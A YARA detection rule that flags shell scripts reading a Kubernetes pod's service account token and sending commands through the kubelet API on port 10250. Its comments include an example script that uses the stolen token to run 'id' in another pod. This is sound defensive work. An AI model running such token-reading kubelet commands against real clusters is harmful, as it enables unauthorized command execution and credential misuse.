rule kubelet_token_script : script
{
    meta:
        title = "run commands in other pods with the pod's token"
        explanation = "A script reads the token that Kubernetes gives to a pod and runs commands through the kubelet of a node. Operators talk to the API server; only intruders go through kubelets."
        class = "malware"
        severity = "high"
        confidence = "medium"
        attack = "T1528, T1552.007"
        reference = "https://attack.mitre.org/software/S0601/"
    strings:
        $token = "kubernetes.io/serviceaccount/token"
        $kubelet1 = ":10250/run"
        $kubelet2 = ":10250/exec"
        $kubelet3 = ":10250/runningpods"
        $open1 = "/runningpods/"
        $scan = "masscan"
    condition:
        filesize < 256KB and uint16(0) == 0x2123 and (($token and 1 of ($kubelet1, $kubelet2)) or ($kubelet3 and 1 of ($kubelet1, $kubelet2)) or ($open1 and $scan))
}

/* example: fires on a command through the kubelet
    FILE /k.sh 0755
        #!/bin/sh
        T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)
        curl -k -H "Authorization: Bearer $T" https://$1:10250/run/default/web/web -d cmd=id
*/
/* example: quiet on a metrics reader
    FILE /m.sh 0755
        #!/bin/sh
        T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)
        curl -k -H "Authorization: Bearer $T" https://$NODE:10250/metrics
*/
